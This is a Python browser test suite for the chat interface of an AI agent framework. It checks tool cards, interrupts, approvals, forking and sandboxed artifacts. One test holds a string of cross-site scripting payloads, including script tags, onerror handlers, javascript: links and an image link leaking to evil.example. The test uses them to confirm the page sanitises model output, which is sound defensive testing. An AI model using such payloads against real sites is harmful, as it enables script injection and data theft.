"""The page in a real browser, against a real server and models that play their parts."""

# pyright: basic

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from server.serving import Client, serving
from treadle import Agent, ScriptedModel
from treadle._plugins.mcp import McpTools
from treadle._tools.mcp.client import McpConnection
from waiting import GUARD_SECONDS

from .stage import Gates, guide, planner

Shoot = Callable[[Any, str], None]
SIZE = {"width": 1280, "height": 860}


class Stage:
    """A page that shows a server whose agents wait for the test."""

    def __init__(self, page: Any, client: Client, gates: Gates) -> None:
        self.page, self.client, self.gates = page, client, gates
        self.faults: list[str] = []
        page.on("pageerror", lambda error: self.faults.append(f"error: {error}"))
        page.on("console", lambda message: self.faults.append(message.text) if message.type == "error" else None)

    def ask(self, question: str) -> None:
        self.page.get_by_label("Message", exact=True).fill(question)
        self.page.locator("button.send:enabled").wait_for()  # the page has taken the text over
        self.page.keyboard.press("Enter")

    def see(self, selector: str, **options: Any) -> Any:
        element = self.page.locator(selector, **options).first
        element.wait_for(timeout=GUARD_SECONDS * 1000)
        return element

    def count(self, selector: str, many: int) -> None:
        self.page.wait_for_function(
            "([s, n]) => document.querySelectorAll(s).length === n", arg=[selector, many], timeout=GUARD_SECONDS * 1000
        )

    def finish(self, turns: int = 1) -> None:
        self.count(".turn-foot", turns)

    def settle(self) -> None:
        """Until nothing moves any more but what moves for ever."""
        ended = "a.playState !== 'running' || a.effect.getComputedTiming().endTime === Infinity"
        self.page.wait_for_function(f"() => document.getAnimations().every((a) => {ended})")


class SlowPath:
    """Requests that wait until the test lets them go."""

    def __init__(self, page: Any, pattern: str) -> None:
        self.waiting: list[Any] = []
        self.held = True
        page.route(pattern, lambda route: self.waiting.append(route) if self.held else route.continue_())

    def hold(self) -> None:
        self.held = True

    def release(self) -> None:
        self.held = False
        while self.waiting:
            self.waiting.pop(0).continue_()


@pytest.fixture
def stage(browser: Any) -> Iterator[Stage]:
    gates = Gates()
    with serving({"guide": guide(gates), "planner": planner(gates)}) as client:
        context = browser.new_context(viewport=SIZE)
        context.set_default_timeout(GUARD_SECONDS * 1000)
        page = context.new_page()
        stage = Stage(page, client, gates)
        page.goto(client.address)
        stage.see(".welcome")
        yield stage
        for gate in vars(gates).values():
            gate.open()
        context.close()
        assert not stage.faults, stage.faults


def test_a_question_with_two_tool_cards(stage: Stage, shoot: Shoot):
    stage.ask("Which is taller, the Eiffel Tower or the Empire State Building?")
    stage.count(".tool", 2)
    stage.see(".answer table")
    stage.finish()
    assert stage.page.locator(".thought").first.inner_text().startswith("Both heights are needed.")
    assert stage.page.locator(".answer strong").first.inner_text() == "Empire State Building"
    assert stage.page.locator(".answer ol li").count() == 3
    foot = stage.page.locator(".turn-foot").inner_text()
    assert re.search(r"2 iterations · 2 tool calls · \d+ tokens · \$\d", foot)
    card = stage.page.locator(".tool").first
    assert not card.locator("pre").is_visible()
    card.locator("summary").click()
    assert card.locator("dd").inner_text() == "Eiffel Tower"
    assert "Height: 330 m" in card.locator("pre").inner_text()
    assert stage.page.locator(".conversation .title").inner_text().startswith("Which is taller")


def test_a_failed_tool_shows_its_error(stage: Stage, shoot: Shoot):
    stage.ask("Where is Atlantis?")
    stage.finish()
    card = stage.page.locator(".tool.failed")
    assert "Failed" in card.locator("summary").inner_text()
    card.locator("summary").click()
    assert "there is no article called 'Atlantis'" in card.locator("pre").inner_text()
    shoot(stage.page, "tool-error")


def test_what_the_provider_searched_and_cites_is_a_card(stage: Stage, shoot: Shoot):
    stage.ask("Does it rain in Bergen?")
    stage.finish()
    card = stage.page.locator(".at-provider")
    assert "web_search" in card.locator("summary").inner_text()
    assert "at the provider, 2 sources" in card.locator("summary").inner_text()
    card.locator("summary").click()
    assert card.locator("pre").first.inner_text() == "rain in Bergen"
    links = card.locator(".cited a")
    assert [links.count(), links.first.get_attribute("href")] == [1, "https://yr.no/bergen"]
    assert links.first.get_attribute("rel") == "noopener noreferrer nofollow"
    assert "Worse" in card.locator(".cited").inner_text()
    shoot(stage.page, "at-the-provider")


def test_live_output_of_a_tool(stage: Stage, shoot: Shoot):
    stage.ask("Please build the release.")
    stage.see(".live-line", has_text="linking")
    shoot(stage.page, "live-output")
    stage.gates.build.open()
    stage.finish()
    assert stage.page.locator(".live-line").count() == 0


def test_an_interrupt_while_it_works(stage: Stage, shoot: Shoot):
    stage.ask("Find a hotel near the station.")
    stage.see(".tool.running")
    stage.ask("And it must take dogs.")
    stage.see(".unread li", has_text="And it must take dogs.")
    shoot(stage.page, "interrupt-waiting")
    stage.gates.search.open()
    stage.see(".interrupt", has_text="And it must take dogs.")
    stage.finish()
    stage.count(".unread li", 0)
    assert "dogs are welcome" in stage.page.locator(".answer").inner_text()
    shoot(stage.page, "interrupt-read")


def test_what_is_said_before_the_run_exists_waits_for_it(stage: Stage):
    start = SlowPath(stage.page, "**/api/runs")
    start.hold()
    stage.ask("Find a hotel near the station.")
    stage.see(".question", has_text="hotel")
    stage.ask("And it must take dogs.")
    stage.page.wait_for_timeout(300)  # time enough to be refused
    assert stage.page.locator(".notice").count() == 0
    start.release()
    stage.see(".tool.running")
    stage.gates.search.open()
    stage.see(".interrupt", has_text="And it must take dogs.")
    stage.finish()


def test_the_first_words_come_with_the_answer_to_the_question(stage: Stage):
    """A second request for them kept them back for up to 100 ms."""
    asked: list[tuple[str, str]] = []
    stage.page.on("request", lambda request: asked.append((request.method, request.url.rpartition("/api/")[2])))
    stage.ask("Which is taller, the Eiffel Tower or the Empire State Building?")
    stage.finish()
    assert ("POST", "runs") in asked
    assert not [path for _, path in asked if "/events" in path]


@pytest.mark.parametrize("kept", [0.5, 0.0])
def test_what_a_broken_answer_to_the_question_did_not_bring_is_asked_for(stage: Stage, kept: float):
    def broken(route: Any) -> None:
        whole = route.fetch()
        route.fulfill(response=whole, body=whole.body()[: int(len(whole.body()) * kept)])

    stage.page.route("**/api/runs", broken)
    with stage.page.expect_request("**/events*") as rest:
        stage.ask("Which is taller, the Eiffel Tower or the Empire State Building?")
        stage.finish()
    assert bool(rest.value.headers.get("last-event-id")) is bool(kept)
    assert stage.page.locator(".tool").count() == 2
    assert stage.page.locator(".answer strong").all_inner_texts() == ["Empire State Building"]


def test_two_tabs_show_one_run(stage: Stage):
    """The one that asked has the events with the answer to its question, the other asks for them."""
    stage.ask("Find a hotel near the station.")
    stage.see(".tool.running")
    other = Stage(stage.page.context.new_page(), stage.client, stage.gates)
    other.page.goto(stage.page.url)
    other.see(".tool.running")
    other.ask("And it must take dogs.")
    other.see(".unread li", has_text="And it must take dogs.")
    stage.gates.search.open()
    for tab in (stage, other):
        tab.see(".interrupt", has_text="And it must take dogs.")
        tab.finish()
    assert "dogs are welcome" in stage.page.locator(".turn").inner_text()
    assert stage.page.locator(".turn").inner_text() == other.page.locator(".turn").inner_text()
    assert not other.faults


def test_a_run_is_stopped_before_it_exists(stage: Stage):
    start = SlowPath(stage.page, "**/api/runs")
    start.hold()
    stage.ask("Find a hotel near the station.")
    stage.see(".question", has_text="hotel")
    stage.page.get_by_label("Stop").click()
    start.release()
    stage.finish()
    assert stage.page.locator(".notice").count() == 0


def test_a_question_asked_before_the_page_has_loaded_everything_stays(stage: Stage):
    """The list of conversations, or the conversation itself, may be slow to come: what was asked meanwhile is kept."""
    slow, start = SlowPath(stage.page, "**/api/conversations**"), SlowPath(stage.page, "**/api/runs")
    stage.page.reload()
    stage.ask("Find a hotel near the station.")
    stage.see(".question", has_text="hotel")
    with stage.page.expect_response("**/api/conversations**"):
        slow.release()
    start.release()
    stage.see(".tool.running")
    stage.gates.search.open()
    stage.finish()
    slow.hold()
    stage.page.reload()
    stage.see(".loading")
    stage.ask("Draw a chart of last year's sales.")
    stage.see(".question", has_text="chart")
    slow.release()
    stage.finish(2)


def test_an_unread_message_can_be_withdrawn(stage: Stage):
    stage.ask("Find a hotel near the station.")
    stage.see(".tool.running")
    stage.ask("Never mind this.")
    stage.see(".unread li").get_by_label("Take back").click()
    stage.count(".unread li", 0)
    stage.gates.search.open()
    stage.finish()
    assert stage.page.locator(".interrupt").count() == 0


def test_stop(stage: Stage, shoot: Shoot):
    stage.ask("Find a hotel near the station.")
    stage.see(".tool.running")
    stage.page.get_by_label("Stop").click()
    stage.finish()
    assert stage.page.locator(".turn-foot").inner_text().startswith("Stopped")
    assert "Outcome unknown" in stage.page.locator(".tool summary").inner_text()
    shoot(stage.page, "stopped")
    stage.gates.search.open()
    stage.page.get_by_role("button", name="Go on").click()
    stage.see(".answer", has_text="Pension Anna")
    assert stage.page.locator(".versions").inner_text().split() == ["2", "of", "2"], "what was stopped is still there"


def test_approval_and_refusal(stage: Stage, shoot: Shoot):
    stage.ask("Write Ann a mail that Thursday suits me.")
    card = stage.see(".approval")
    assert "May it use send_mail?" in card.inner_text()
    assert "Thursday at ten" in card.inner_text()
    card.get_by_role("button", name="Allow").click()
    stage.finish()
    assert stage.page.locator(".answer").inner_text() == "Ann has her mail."
    stage.ask("Write Ann another mail.")
    card = stage.see(".approval")
    card.get_by_placeholder("If you refuse").fill("not today")
    card.get_by_role("button", name="Refuse").click()
    stage.finish(2)
    refused = stage.page.locator(".tool.failed").last
    assert "Refused" in refused.locator("summary").inner_text()
    refused.locator("summary").click()
    assert "not today" in refused.locator("pre").inner_text()


def test_a_reload_in_the_middle_loses_nothing(stage: Stage):
    stage.ask("Find a hotel near the station.")
    stage.see(".tool.running")
    stage.ask("And it must take dogs.")
    before = [stage.page.locator(selector).all_inner_texts() for selector in (".question", ".thought", ".tool-name")]
    stage.page.reload()
    stage.see(".tool.running")
    assert [
        stage.page.locator(selector).all_inner_texts() for selector in (".question", ".thought", ".tool-name")
    ] == before
    stage.gates.search.open()
    stage.finish()
    after = stage.page.locator(".turn").inner_text()
    stage.page.reload()
    stage.finish()
    assert stage.page.locator(".turn").inner_text() == after, "a finished run looks different when it is read again"
    assert "dogs are welcome" in after


def test_a_connection_that_drops_comes_back(stage: Stage):
    stage.ask("Find a hotel near the station.")
    stage.see(".tool.running")
    stage.page.context.set_offline(True)
    stage.page.wait_for_function("!navigator.onLine")
    stage.page.context.set_offline(False)
    stage.page.wait_for_function("navigator.onLine")
    stage.gates.search.open()
    stage.finish()
    assert stage.page.locator(".tool").count() == 1


def test_an_artifact_is_shown_and_its_script_does_not_run(stage: Stage, shoot: Shoot):
    stage.ask("Draw a chart of last year's sales.")
    stage.finish()
    stage.page.get_by_role("button", name="sales.html").click()
    frame = stage.see("iframe")
    assert frame.get_attribute("sandbox") == ""
    inside = stage.page.frame_locator("iframe")
    inside.locator("h1").wait_for()
    assert inside.locator("h1").inner_text() == "Sales by quarter"
    assert inside.locator("#note").inner_text() == "Figures in thousands."
    assert "OWNED" not in stage.page.title()
    shoot(stage.page, "artifact")
    # Also when it is opened by itself.
    run = stage.client.get("/api/runs")["runs"][0]["run_id"]
    alone = stage.page.context.new_page()
    alone.goto(f"{stage.client.address}/api/runs/{run}/artifacts/sales.html")
    assert alone.locator("#note").inner_text() == "Figures in thousands."
    alone.close()
    stage.faults[:] = [fault for fault in stage.faults if "sandbox" not in fault]


def test_the_plan_as_a_live_diagram(stage: Stage, shoot: Shoot):
    stage.page.get_by_label("planner").check()
    stage.ask("Compare Peru and Chile and write a report.")
    stage.count(".dag .box", 5)
    stage.count(".dag .box.completed", 3)
    stage.see(".dag .box.running")
    assert stage.page.locator(".dag .line").count() == 4
    shoot(stage.page, "dag-running")
    stage.gates.steps.open()
    stage.count(".dag .box.completed", 5)
    stage.finish()
    stage.page.locator(".dag .box").first.click()
    assert "Done: Find Peru" in stage.page.locator(".dag-detail").inner_text()
    stage.page.get_by_role("button", name="Inspect its run").click()
    stage.see(".record")


def test_inspector_and_fork(stage: Stage, shoot: Shoot):
    stage.ask("Which is taller, the Eiffel Tower or the Empire State Building?")
    stage.finish()
    stage.page.get_by_label("Inspect this run").click()
    stage.see(".record >> text=run finished")
    stage.page.get_by_role("tab", name="Cost").click()
    assert stage.see(".cost tbody th", has_text="loop")
    assert stage.page.locator(".cost tbody tr").count() == 2
    shoot(stage.page, "inspector-cost")
    stage.page.get_by_role("tab", name="Timeline").click()
    stage.page.get_by_label(re.compile("Show the request of record")).nth(1).click()
    stage.see(".verified", has_text="Byte for byte what was sent")
    assert stage.page.locator(".message").count() == 4
    shoot(stage.page, "inspector-request")
    stage.page.get_by_role("button", name="Timeline").click()
    stage.page.get_by_label("Fork after record 6").click()
    stage.page.get_by_label(re.compile("A new run with everything up to record 6")).fill("Be brief.")
    shoot(stage.page, "fork")
    first = stage.page.url
    stage.page.get_by_role("button", name="Fork from here").click()
    stage.page.wait_for_url(lambda url: url != first)
    stage.see(".interrupt", has_text="Be brief.")
    stage.finish()
    stage.count(".tool", 2)
    stage.count(".conversation", 2)


def test_a_conversation_can_be_continued_found_and_deleted(stage: Stage):
    stage.ask("Where is Atlantis?")
    stage.finish()
    stage.ask("Draw a chart.")
    stage.finish(2)
    stage.page.get_by_role("button", name="New conversation").click()
    stage.see(".welcome")
    stage.ask("Hello there")
    stage.finish()
    stage.count(".conversation", 2)
    stage.page.get_by_label("Search conversations").fill("atlan")
    stage.count(".conversation", 1)
    stage.page.locator(".conversation .open").click()
    stage.finish(2)
    stage.page.on("dialog", lambda dialog: dialog.accept())
    stage.page.locator(".conversation").hover()
    stage.page.get_by_label(re.compile("Delete")).click()
    stage.see(".welcome")
    stage.page.get_by_label("Search conversations").fill("")
    stage.count(".conversation", 1)


def test_what_a_model_writes_cannot_harm(browser: Any):
    nasty = (
        "<img src=x onerror=\"document.title='OWNED'\"> <script>document.title='OWNED'</script>\n\n"
        "[click](javascript:document.title='OWNED')\n\n![x](https://evil.example/leak?q=1)\n\n"
        '<a href="https://example.com" onclick="document.title=1">link</a> <form action="/x"><input name=a></form>\n\n'
        '<svg onload="document.title=1"></svg><style>body{display:none}</style><iframe src="https://evil.example"></iframe>'
    )
    with serving(Agent(ScriptedModel([nasty]), tools=None)) as client:
        context = browser.new_context(viewport=SIZE)
        page = context.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(client.address)
        page.get_by_label("Message", exact=True).fill("x <img src=y onerror=alert(1)>")
        page.keyboard.press("Enter")
        page.locator(".turn-foot").wait_for()
        answer = page.locator(".answer")
        assert "OWNED" not in page.title()
        elements = "(one) => [...one.querySelectorAll('*')].flatMap((e) => [e.localName, ...e.getAttributeNames()])"
        written = set(answer.evaluate(elements))
        assert written.isdisjoint("onerror onclick onload script form style iframe svg".split()), written
        assert answer.locator("a[href^=javascript]").count() == 0
        assert answer.locator("a", has_text="link").get_attribute("rel") == "noopener noreferrer nofollow"
        assert page.locator(".question").inner_text() == "x <img src=y onerror=alert(1)>"
        assert not [url for url in asked if "evil" in url], asked
        context.close()


def test_tokens(browser: Any, shoot: Shoot):
    token = "token-of-ann-0123456789"
    with serving(Agent(ScriptedModel(["hi"]), tools=None), tokens={token: "ann"}) as client:
        context = browser.new_context(viewport=SIZE)
        page = context.new_page()
        page.goto(client.address)
        page.get_by_label("Token").fill("wrong")
        shoot(page, "login")
        page.get_by_role("button", name="Log in").click()
        page.get_by_text("no user has this token").wait_for()
        page.get_by_label("Token").fill(token)
        page.keyboard.press("Enter")
        page.get_by_label("Message", exact=True).fill("hello")
        page.keyboard.press("Enter")
        page.locator(".turn-foot").wait_for()
        assert page.evaluate("document.cookie") == ""
        page.get_by_label("Log out").click()
        page.get_by_label("Token").wait_for()
        assert page.locator(".answer").count() == 0
        context.close()


def test_a_tool_server_that_does_not_start_is_said_on_the_page(browser: Any):
    missing = McpTools(McpConnection("gone", command="no-such-command-here"))
    with serving(Agent(ScriptedModel(["hi"]), None, plugins=[missing])) as client:
        context = browser.new_context(viewport=SIZE)
        page = context.new_page()
        page.goto(client.address)
        page.get_by_label("Message", exact=True).fill("hello")
        page.keyboard.press("Enter")
        page.locator(".turn-foot").wait_for()
        note = page.locator(".of-note", has_text="Some tools are missing")
        note.locator("summary").click()
        assert "no-such-command-here" in note.inner_text()
        context.close()
